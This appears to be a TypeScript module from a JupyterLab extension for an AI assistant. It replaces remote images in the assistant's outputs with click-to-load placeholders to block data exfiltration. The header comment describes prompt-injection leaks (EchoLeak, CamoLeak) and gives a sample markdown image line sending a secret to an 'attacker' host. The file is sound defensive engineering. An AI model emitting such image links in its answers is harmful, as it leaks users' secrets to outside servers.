/**
 * Remote images in Co's outputs load on a person's click, and only then.
 *
 * An image loads as the page renders it, so an answer steered into writing
 * `![s](https://attacker/c?d=<secret>)` sends the secret on open (EchoLeak,
 * CamoLeak). The kernel writes each such image as a placeholder, a plain link
 * that shows the host and the whole URL (`co_kernel/frontend/_remote_images.py`).
 * Here:
 *
 * - a click on a placeholder loads its image when the click is the person's
 *   (`byPerson`, the browser's `isTrusted`, as for approval cards); a
 *   script's `click()` or synthetic event loads nothing. In a trusted output
 *   the placeholder is no link here (a browser follows a link on a script's
 *   non-cancelable synthetic click whatever a listener does), so nothing but
 *   this module's listener loads it;
 * - the HTML of Co's outputs is rewritten before JupyterLab renders it, so the
 *   live images that a Co before placeholders saved in a notebook become
 *   placeholders too. The HTML is parsed with `DOMParser`, whose document has
 *   no browsing context and loads nothing. Images the kernel let load (an
 *   `image_hosts` host, marked `co-image`) and paths beside the notebook stay.
 *   The sanitiser is wrapped too, for readers of the HTML that are not
 *   renderers (the table of contents).
 */
import type { IRenderMimeRegistry } from '@jupyterlab/rendermime';
import type { IRenderMime } from '@jupyterlab/rendermime-interfaces';

import { byPerson } from '../approvals/guard';
import { coOutputFactory } from './legacy';

/** Class of a placeholder (`PLACEHOLDER_CLASS` in `_remote_images.py`). */
export const PLACEHOLDER_CLASS = 'co-remote-image';
/** Class of an image the kernel lets load at once (`IMAGE_CLASS`). */
export const IMAGE_CLASS = 'co-image';
/** The placeholder's attribute with the image's URL (`URL_ATTRIBUTE`). */
export const URL_ATTRIBUTE = 'data-co-image';

/** Where an image's `src` leads, as a browser reads it. */
export interface IImageTarget {
  /** local: beside the notebook or inline data; remote: leaves the page; blocked: no image URL. */
  kind: 'local' | 'remote' | 'blocked';
  /** The URL as the browser reads it. */
  url: string;
}

/** Classify an image URL the way `image_target` in `_remote_images.py` does. */
export function imageTarget(src: string): IImageTarget {
  // WHATWG URL: C0 controls and spaces at the ends and tabs/newlines anywhere
  // are dropped; for http(s) a backslash is a slash.
  const url = src
    // eslint-disable-next-line no-control-regex -- the controls are what is dropped
    .replace(/^[\u0000-\u0020]+|[\u0000-\u0020]+$/g, '')
    .replace(/[\t\n\r]/g, '')
    .replace(/\\/g, '/');
  const scheme = /^[A-Za-z][A-Za-z0-9+.-]*:/.exec(url)?.[0].toLowerCase();
  if (scheme) {
    if (scheme === 'http:' || scheme === 'https:') {
      return { kind: 'remote', url };
    }
    // Inline data and the page's own blobs send nothing anywhere.
    const inline = scheme === 'data:' || scheme === 'blob:';
    return { kind: inline ? 'local' : 'blocked', url };
  }
  if (url.startsWith('/')) {
    return { kind: 'remote', url };
  }
  const head = url.split(/[/?#]/, 1)[0];
  return { kind: head.includes(':') ? 'blocked' : 'local', url };
}

/** The host a person checks: `host[:port]`, or the page's own server for a path. */
export function hostOf(url: string): string {
  if (!/^([A-Za-z][A-Za-z0-9+.-]*:)?\/\/[^/]/.test(url)) {
    return "the page's own server";
  }
  try {
    return new URL(url.startsWith('//') ? `https:${url}` : url).host;
  } catch {
    return 'an unreadable host';
  }
}

/** `text` with control, invisible and direction characters shown as `\uXXXX`. */
export function visible(text: string): string {
  return text.replace(
    /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Co}\p{Cn}]/gu,
    ch => `\\u${ch.codePointAt(0)!.toString(16).padStart(4, '0')}`
  );
}

/** The URL with its %-escapes decoded where they are valid UTF-8. */
export function decoded(url: string): string {
  return url.replace(/(?:%[0-9A-Fa-f]{2})+/g, run => {
    try {
      return decodeURIComponent(run);
    } catch {
      return run;
    }
  });
}

/** A placeholder for a remote image, as the kernel writes one. */
export function placeholderFor(
  doc: Document,
  url: string,
  alt: string,
  inLink: boolean
): HTMLElement {
  const element = doc.createElement(inLink ? 'span' : 'a');
  element.className = PLACEHOLDER_CLASS;
  element.setAttribute(URL_ATTRIBUTE, url);
  element.title = 'Nothing is loaded until you click';
  if (!inLink) {
    element.setAttribute('href', url);
    element.setAttribute('rel', 'noopener noreferrer nofollow');
  }
  let label = `Image from ${visible(hostOf(url))} not loaded`;
  if (alt.trim()) {
    label += `: ${visible(alt.trim())}`;
  }
  const text = doc.createElement('span');
  text.className = `${PLACEHOLDER_CLASS}-label`;
  text.textContent = `🖼 ${label}. Click to load it from`;
  const shown = doc.createElement('code');
  shown.className = `${PLACEHOLDER_CLASS}-url`;
  shown.textContent = visible(decoded(url));
  element.append(text, doc.createTextNode(' '), shown);
  return element;
}

/**
 * `html` with its remote images as placeholders; unchanged when it has none.
 *
 * With `links` false (a trusted output, whose attributes reach the page as
 * written) a placeholder is no link: the browser follows a link on a script's
 * non-cancelable synthetic click, whatever a listener does, so only this
 * module's listener can load it. An untrusted output keeps the link, since
 * JupyterLab's sanitiser drops the data attribute; no script runs there.
 */
export function neutraliseImages(html: string, links = true): string {
  if (!/<img|co-remote-image/i.test(html)) {
    return html;
  }
  // A DOMParser document has no browsing context: nothing in it loads.
  const doc = new DOMParser().parseFromString(html, 'text/html');
  let changed = false;
  for (const img of Array.from(doc.body.querySelectorAll('img'))) {
    if (img.classList.contains(IMAGE_CLASS)) {
      continue;
    }
    const target = imageTarget(img.getAttribute('src') ?? '');
    const srcset = img.hasAttribute('srcset');
    if (target.kind === 'local' && !srcset) {
      continue;
    }
    changed = true;
    if (target.kind === 'remote') {
      const inLink = img.closest('a') !== null;
      img.replaceWith(
        placeholderFor(doc, target.url, img.getAttribute('alt') ?? '', inLink)
      );
    } else {
      img.removeAttribute('srcset');
      if (target.kind === 'blocked') {
        img.removeAttribute('src');
      }
    }
  }
  if (!links) {
    const selector = `.${PLACEHOLDER_CLASS}[href]`;
    for (const link of Array.from(doc.body.querySelectorAll(selector))) {
      changed = true;
      const button = doc.createElement('span');
      for (const { name, value } of Array.from(link.attributes)) {
        if (name !== 'href' && name !== 'rel') {
          button.setAttribute(name, value);
        }
      }
      if (!button.hasAttribute(URL_ATTRIBUTE)) {
        button.setAttribute(URL_ATTRIBUTE, link.getAttribute('href') ?? '');
      }
      button.setAttribute('role', 'button');
      button.setAttribute('tabindex', '0');
      button.append(...Array.from(link.childNodes));
      link.replaceWith(button);
    }
  }
  return changed ? doc.body.innerHTML : html;
}

/** The same output with the remote images of its HTML as placeholders. */
export function withoutRemoteImages(
  model: IRenderMime.IMimeModel
): IRenderMime.IMimeModel {
  const mime = 'text/html';
  const value = model.data[mime];
  const html = Array.isArray(value) ? value.join('') : value;
  if (typeof html !== 'string') {
    return model;
  }
  const safe = neutraliseImages(html, !model.trusted);
  if (safe === html) {
    return model;
  }
  return {
    trusted: model.trusted,
    data: { ...model.data, [mime]: safe },
    metadata: model.metadata,
    setData: options => model.setData(options)
  };
}

/** Class of the element around every answer Co renders (`MARKDOWN_CLASS`). */
export const MARKDOWN_CLASS = 'co-markdown';

/**
 * The sanitiser's output without remote images where the HTML is Co's answer.
 *
 * Not every reader of an output's HTML is a renderer: JupyterLab's table of
 * contents reads each code cell's `text/html` through the sanitiser and then
 * `innerHTML` of an element of the live page, to find headings, which loads
 * its images before anything is shown.
 */
export function guardSanitizer(sanitizer: IRenderMime.ISanitizer): void {
  const sanitize = sanitizer.sanitize.bind(sanitizer);
  sanitizer.sanitize = (html, options) => {
    const clean = sanitize(html, options);
    return clean.includes(MARKDOWN_CLASS) ? neutraliseImages(clean) : clean;
  };
}

/** Wrap the registry's HTML renderer and its sanitiser (before any notebook clones it). */
export function neutraliseSavedImages(registry: IRenderMimeRegistry): void {
  const mime = 'text/html';
  const factory = registry.getFactory(mime);
  if (factory) {
    registry.addFactory(
      coOutputFactory(factory, withoutRemoteImages),
      registry.getRank(mime)
    );
  }
  guardSanitizer(registry.sanitizer);
}

/** Replace a placeholder with its image: what a person's click does. */
export function loadPlaceholder(
  placeholder: HTMLElement
): HTMLImageElement | null {
  const url =
    placeholder.getAttribute(URL_ATTRIBUTE) ?? placeholder.getAttribute('href');
  if (!url || imageTarget(url).kind !== 'remote') {
    return null;
  }
  const img = placeholder.ownerDocument.createElement('img');
  img.className = `${IMAGE_CLASS} ${PLACEHOLDER_CLASS}-loaded`;
  img.title = visible(decoded(url));
  img.alt = placeholder.textContent ?? '';
  img.src = url;
  placeholder.replaceWith(img);
  return img;
}

/** How the loader tells a person's click (tests of the rest replace it). */
export interface IImageLoaderOptions {
  isPerson?: (event: Event) => boolean;
}

/**
 * Watch `target` (the window) in the capture phase, ahead of JupyterLab's link
 * handling: a click on a placeholder never follows its link; a person's click,
 * or Enter or Space on a focused placeholder, loads the image. Returns the
 * function that removes the listeners.
 */
export function installImageLoader(
  target: Window,
  options: IImageLoaderOptions = {}
): () => void {
  const isPerson = options.isPerson ?? byPerson;
  const placeholderAt = (event: Event): HTMLElement | null => {
    const element = event.target instanceof Element ? event.target : null;
    return element?.closest<HTMLElement>(`.${PLACEHOLDER_CLASS}`) ?? null;
  };
  const onClick = (event: MouseEvent): void => {
    const placeholder = placeholderAt(event);
    if (!placeholder) {
      return;
    }
    event.preventDefault();
    event.stopImmediatePropagation();
    if (isPerson(event)) {
      loadPlaceholder(placeholder);
    }
  };
  const onKeydown = (event: KeyboardEvent): void => {
    const placeholder = placeholderAt(event);
    if (!placeholder || (event.key !== 'Enter' && event.key !== ' ')) {
      return;
    }
    // Stopped either way: JupyterLab's keymap would run the cell on Enter.
    event.preventDefault();
    event.stopImmediatePropagation();
    if (isPerson(event)) {
      loadPlaceholder(placeholder);
    }
  };
  target.addEventListener('click', onClick, true);
  target.addEventListener('keydown', onKeydown, true);
  return () => {
    target.removeEventListener('click', onClick, true);
    target.removeEventListener('keydown', onKeydown, true);
  };
}
